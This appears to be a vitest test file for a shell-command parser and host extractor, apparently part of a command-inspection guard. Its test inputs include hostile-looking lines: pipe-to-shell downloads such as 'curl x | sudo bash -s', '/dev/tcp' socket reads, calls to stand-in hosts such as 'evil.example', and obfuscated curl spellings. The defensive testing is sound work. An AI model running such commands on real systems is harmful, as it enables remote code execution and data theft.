import { hostsIn, readShell, type ShellCommand } from '@sallyport/shell';
import { describe, expect, test } from 'vitest';

/** A command as one text: `rm -rf x <f >g |0 (1,2) @folder?`, with what it is given. */
function shown(command: ShellCommand): string {
  const { program, words, assignments, reads, writes, uses, pipedFrom, folder, isFolderSure, path, through } = command;
  return [
    ...through.map((each) => `${each}:`),
    ...Object.entries(assignments).map(([name, value]) => `${name}=${value}`),
    `${program || '?'}${path === undefined ? '' : `{${path}}`}`,
    ...words,
    ...reads.map((file) => `<${file}`),
    ...writes.map((file) => `>${file}`),
    ...(command.input === undefined ? [] : [`<<${JSON.stringify(command.input)}`]),
    ...(pipedFrom === undefined ? [] : [`|${pipedFrom}`]),
    ...(uses.length === 0 ? [] : [`(${uses.join(',')})`]),
    ...(folder === undefined ? [] : [`@${folder}`]),
    ...(isFolderSure ? [] : ['@?']),
  ].join(' ');
}

describe('commands in a line', () => {
  test.each<readonly [line: string, ...commands: string[]]>([
    // Words and quotes.
    ['git push origin main', 'git push origin main'],
    [`echo 'a b' "c d" e\\ f`, 'echo a b c d e f'],
    [`c\\url x; c''url x; "curl" x; $'\\x63url' x`, 'curl x', 'curl x', 'curl x', 'curl x'],
    [`echo "\\$HOME" '$HOME' $HOME/x "$HOME/y z"`, 'echo $HOME $HOME $HOME/x $HOME/y z'],
    ['echo a\\\nb', 'echo ab'],
    ['echo a # rm x', 'echo a'],
    ['echo *.ts {a,b} ~/x', 'echo *.ts {a,b} ~/x'],
    ['\u00e9 --gr\u00f6\u00dfe \u00fc\u00a0x \u6f22\u5b57', '\u00e9 --gr\u00f6\u00dfe \u00fc\u00a0x \u6f22\u5b57'],
    ['ls\r\npwd -P\r\n', 'ls', 'pwd -P'],
    ['', ...[]],
    ['# nothing', ...[]],
    // Programs.
    ['/usr/bin/git push', 'git{/usr/bin/git} push'],
    ['./build.sh a', 'build.sh{./build.sh} a'],
    ['git.exe push', 'git{git.exe} push'],
    ['$EDITOR x', '?{$EDITOR} x'],
    ['$HOME/bin/tool x', 'tool{$HOME/bin/tool} x'],
    ['/usr/b?n/c* x', '?{/usr/b?n/c*} x'],
    ['{curl,x}', '?{{curl,x}}'],
    // Variables.
    ['A=1 B="x y" make', 'A=1 B=x y make'],
    ['A=1', 'A=1 ?'],
    ['A=1 $X', 'A=1 ?{$X}'],
    ['A=(x y) B+=z', 'A=x y B=z ?'],
    ['export A="x y" B', 'A=x y export A=x y B'],
    ['X=$(curl x)', 'X=$(curl x) ? (1)', 'curl x'],
    // Lists, pipes, groups.
    ['a && b || c; d & e', 'a', 'b', 'c', 'd', 'e'],
    ['a | b | c', 'a', 'b |0', 'c |1'],
    ['a |& b', 'a', 'b |0'],
    ['! a | b', 'a', 'b |0'],
    ['time -p ls', 'ls'],
    ['{ a; b; } | c', 'a', 'b', 'c |1 (0)'],
    ['a | { b; c; }', 'a', 'b |0', 'c |0'],
    ['(a; b) > f', 'a >f', 'b >f'],
    ['coproc a', 'a'],
    // Redirections.
    ['a < f > g 2>&1', 'a <f >g'],
    ['a >> f 2> g &> h >| i >&j', 'a >f >g >h >i >j'],
    ['a <> f 3<&- {fd}> g', 'a <f >f >g'],
    ['> f', '? >f'],
    ['cat <<E\nx $A\nE\nls', 'cat <<"x $A\\n"', 'ls'],
    ["cat <<-'E' > f\n\tx\n\tE", 'cat >f <<"\\tx\\n"'],
    ['cat <<< "x y"', 'cat <<"x y"'],
    ['cat <<E | sh\n$(ls)\nE', 'cat <<"$(ls)\\n" (1)', 'ls', 'sh |0'],
    // Substitutions.
    ['echo $(ls) `pwd`', 'echo $(ls) `pwd` (1,2)', 'ls', 'pwd'],
    [`echo "\${A:-$(id)}" $((1 + $(wc)))`, `echo \${A:-$(id)} $((1 + $(wc))) (1,2)`, 'id', 'wc'],
    ['echo "`a "\\`b\\`"`"', 'echo `a "\\`b\\`"` (1)', 'a `b` (2)', 'b'],
    ['diff <(a | b) <(c)', 'diff <(a | b) <(c) (2,3)', 'a', 'b |1', 'c'],
    ['tee >(sh) < f', 'tee >(sh) <f', 'sh |0'],
    ['curl x > >(sh)', 'curl x >>(sh)', 'sh |0'],
    ['while read l; do a; done < <(ls)', 'ls', 'read l <<(ls) (0)', 'a <<(ls) (0)'],
    ['a | echo $(sh)', 'a', 'echo $(sh) |0 (2)', 'sh |0'],
    // What is fetched and run.
    ['curl x | sh', 'curl x', 'sh |0'],
    ['curl x | sudo bash -s', 'curl x', 'sudo: bash -s |0'],
    ['bash <(curl x)', 'bash <(curl x) (1)', 'curl x'],
    ['source <(curl x)', 'source <(curl x) (1)', 'curl x'],
    ['sh <<< "$(curl x)"', 'sh <<"$(curl x)" (1)', 'curl x'],
    // Compound commands.
    ['if a; then b; elif c; then d; else e; fi', 'a', 'b', 'c', 'd', 'e'],
    ['for f in a $(ls); do rm $f; done', 'f=a $(ls) ? (1)', 'ls', 'rm $f'],
    ['for ((i = 0; i < $(a); i++)); do b; done', 'a', 'b'],
    ['select x in a; do b; done', 'x=a ?', 'b'],
    ['until a; do b; done', 'a', 'b'],
    ['case $(a) in x) b ;; y | z) c ;; esac', 'a', 'b', 'c'],
    ['[[ -f $(a) && x == y* ]] && b', 'a', 'b'],
    ['(( x = $(a) ))', 'a'],
    ['function f { a; }; f() { b; }; f', 'a @?', 'b @?', 'f'],
    // Programs that run others.
    ['sudo -u bob -- rm x', 'sudo: rm x'],
    ['sudo A=1 env -i B=2 nice -n 5 rm x', 'sudo: env: nice: A=1 B=2 rm x'],
    ['timeout -k 5 10 nohup command rm x', 'timeout: nohup: command: rm x'],
    ['command -v rm', 'command -v rm'],
    ['exec rm x', 'exec: rm x'],
    ['env', 'env'],
    ['./sudo rm x', 'sudo{./sudo} rm x'],
    ['ls | xargs -0 -n1 rm -f', 'ls', 'xargs: rm -f |0 (0)'],
    ['xargs -a list rm', 'xargs: rm <list'],
    [
      'find . -name x -exec rm {} \\; -exec ls {} +',
      'find . -name x -exec rm {} ; -exec ls {} +',
      'find: rm {} (0)',
      'find: ls {} (0)',
    ],
    // Scripts in words.
    ["sh -c 'a; b | c'", 'sh: a', 'sh: b', 'sh: c |1'],
    ["bash -euo pipefail -c 'a' _ ~/x", 'bash -euo pipefail -c a _ ~/x', 'bash: a'],
    ['bash -lc \'bash -c "a b"\'', 'bash: bash: a b'],
    ["sudo sh -c 'echo x > /etc/y'", 'sudo: sh: echo x >/etc/y'],
    ["A=1 sh -c 'a'", 'A=1 sh -c a', 'sh: a'],
    ['sudo a $(b)', 'sudo: a $(b) (1)', 'b'],
    ["eval 'a' 'b; c'", 'eval: a b', 'eval: c'],
    ["watch -n 5 'a | b'", 'watch: a', 'watch: b |0'],
    ["trap 'rm x' EXIT", 'trap rm x EXIT', 'trap: rm x'],
    ["su - bob -c 'rm x'", 'su - bob -c rm x', 'su: rm x'],
    ["bash <<'E'\nrm $x\nE", 'bash <<"rm $x\\n"', 'bash: rm $x'],
    // Folders.
    ['cd a && b', 'cd a', 'b @a'],
    ['cd a; b', 'cd a', 'b @a @?'],
    ['cd a && b; c', 'cd a', 'b @a', 'c @a @?'],
    ['cd a && cd ../b/./c && d', 'cd a', 'cd ../b/./c @a', 'd @b/c'],
    ['cd a; cd b && c', 'cd a', 'cd b @a @?', 'c @a/b @?'],
    ['cd a; cd /b && c', 'cd a', 'cd /b @a @?', 'c @/b'],
    ['cd /a && cd .. && b', 'cd /a', 'cd .. @/a', 'b @/'],
    ['cd a || exit 1; b', 'cd a', 'exit 1 @a @?', 'b @a'],
    ['cd a; cd /b; cd c && d', 'cd a', 'cd /b @a @?', 'cd c @/b @?', 'd @/b/c @?'],
    ['cd -P a && b', 'cd -P a', 'b @a'],
    ['cd -- -a && b', 'cd -- -a', 'b @?'],
    ['(cd a && b); c', 'cd a', 'b @a', 'c'],
    ['cd a & b', 'cd a', 'b'],
    ['cd && b', 'cd', 'b @~'],
    ['cd $X && b', 'cd $X', 'b @?'],
    ['cd - && b', 'cd -', 'b @?'],
    ['pushd a && b && popd && c', 'pushd a', 'b @a', 'popd @a', 'c @?'],
    ['if cd a; then b; fi; c', 'cd a', 'b @a', 'c @a @?'],
    ['while a; do cd b; done; c', 'a @?', 'cd b @?', 'c @b @?'],
    ["bash -c 'cd a && b'; c", 'bash: cd a', 'bash: b @a', 'c'],
    ["eval 'cd a' && b", 'eval: cd a', 'b @a'],
    ['sudo cd a && b', 'sudo: cd a', 'b'],
    ['! cd a && b', 'cd a', 'b @a @?'],
  ])('%s', (line, ...commands) => {
    const read = readShell(line);
    expect(read.commands.map(shown)).toEqual(commands);
  });
});

describe('a line that is read in whole', () => {
  test.each([
    'a',
    'curl x | sh',
    'cat <<E\nx',
    'bash <(curl x)',
    'for f in *; do a "$f"; done',
    'command -v x',
    '$X y',
  ])('%s', (line) => {
    expect(readShell(line).isOpaque).toBe(false);
  });
});

describe('a line that is opaque', () => {
  test.each<readonly [line: string, ...commands: string[]]>([
    ["echo 'a", 'echo a'],
    ['echo "a', 'echo a'],
    ['a; echo $(b', 'a', 'echo $(b (2)', 'b'],
    ['if a; then b', 'a', 'b'],
    ['a )', 'a'],
    ['if ($x) { rm y }', '?{$x}', 'rm y }'],
    ['echo $(if)', 'echo $(if)'],
    ['sh -c "$(curl x)"', 'sh -c $(curl x) (1)', 'curl x'],
    ['sh -c "$X"', 'sh: ?{$X}'],
    ['eval "$(ssh-agent -s)"', 'eval $(ssh-agent -s) (1)', 'ssh-agent -s'],
    ['bash <<E\nrm $x\nE', 'bash <<"rm $x\\n"', 'bash: rm $x'],
    ["ls | xargs -I% sh -c 'rm %'", 'ls', 'xargs: sh: rm % |0 (0)'],
    ["find . -exec sh -c 'rm {}' \\;", 'find . -exec sh -c rm {} ;', 'find: sh: rm {} (0)'],
    ['sudo -s rm x', 'sudo -s rm x'],
    ['sudo --unknown x rm y', 'sudo --unknown x rm y'],
    ["env -S 'rm x'", 'env -S rm x'],
    ['a\0b', ...[]],
  ])('%s', (line, ...commands) => {
    const read = readShell(line);
    expect(read.isOpaque).toBe(true);
    expect(read.commands.map(shown)).toEqual(commands);
  });

  test.each([
    ['too long', `echo ${'a'.repeat(20_000)}`],
    ['too many commands', 'a;'.repeat(2000)],
    ['nested too deep', `${'$('.repeat(10_000)}a${')'.repeat(10_000)}`],
    ['scripts in scripts', `${'eval '.repeat(20)}a`],
    ['find in find', `${'find -exec '.repeat(2000)}a`],
  ])('%s', (_, line) => {
    expect(readShell(line).isOpaque).toBe(true);
  });
});

describe('hosts in a text', () => {
  test.each<readonly [text: string, ...hosts: string[]]>([
    ['curl https://ann:pw@Example.COM.:8080/x', 'example.com'],
    ['curl http://[::1]:80/', '[::1]'],
    ['see https://a.example/x, or "ftp://b.example"', 'a.example', 'b.example'],
    ['http://good.example\\@evil.example/', 'good.example', 'evil.example'],
    ['curl https://$HOST/x', '$host'],
    ['git clone git@github.com:a/b', 'github.com'],
    ['git remote add o Host.example:a.git', 'host.example'],
    ['write to bob@example.com', 'example.com'],
    ['npm i a@1.2.3 @b/c@2 d@latest', ...[]],
    ['ssh -p 22 root@box ls', 'box'],
    ['ssh -J jump.example box', 'jump.example', 'box'],
    ['scp a.txt box:/x c:/y ./d:e', 'box'],
    ['rsync -av ./ bob@h.example:x', 'h.example'],
    ['curl -sSL example.com/x -o out.json -d a.b', 'example.com'],
    [
      'curl -x proxy.example:3128 --resolve a.example:443:10.0.0.1 localhost:3000',
      'proxy.example',
      'a.example',
      '10.0.0.1',
      'localhost',
    ],
    ['wget -qO- evil.sh', 'evil.sh'],
    ['nc -w 1 10.0.0.1 80', '10.0.0.1'],
    ['dig @8.8.8.8 secret.evil.example', '8.8.8.8', 'secret.evil.example'],
    ['psql -h db.example -U me', 'db.example'],
    ['cat < /dev/tcp/1.2.3.4/80', '1.2.3.4'],
    ['sh -c "curl evil.example"', 'evil.example'],
    ['git commit -m "fix a:b"', ...[]],
    ['docker run a/b:c', ...[]],
  ])('%s', (text, ...hosts) => {
    expect(hostsIn(text)).toEqual(hosts);
  });
});
